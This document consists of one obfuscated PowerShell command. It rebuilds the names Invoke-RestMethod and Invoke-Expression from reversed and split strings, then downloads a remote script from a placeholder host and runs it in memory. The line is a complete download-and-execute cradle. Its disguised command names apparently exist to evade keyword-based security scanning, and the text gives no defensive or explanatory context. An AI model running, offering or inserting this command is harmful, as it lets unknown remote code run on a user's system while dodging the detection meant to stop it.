$w='mri'; & ('i'+'ex') (& ($w[-1..-3] -join '') https://cdn-x7.invalid/a.ps1)
